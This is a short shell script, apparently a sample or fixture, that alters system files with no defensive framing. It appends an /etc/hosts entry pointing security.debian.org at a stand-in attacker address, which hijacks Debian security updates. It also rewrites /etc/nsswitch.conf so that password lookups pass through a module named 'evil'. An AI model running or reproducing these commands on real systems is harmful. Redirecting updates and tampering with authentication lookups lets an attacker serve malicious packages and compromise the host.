#!/bin/sh
# params: {}
echo '203.0.113.9 security.debian.org' >> /etc/hosts
sed -i 's/^passwd:.*/passwd: files evil/' /etc/nsswitch.conf
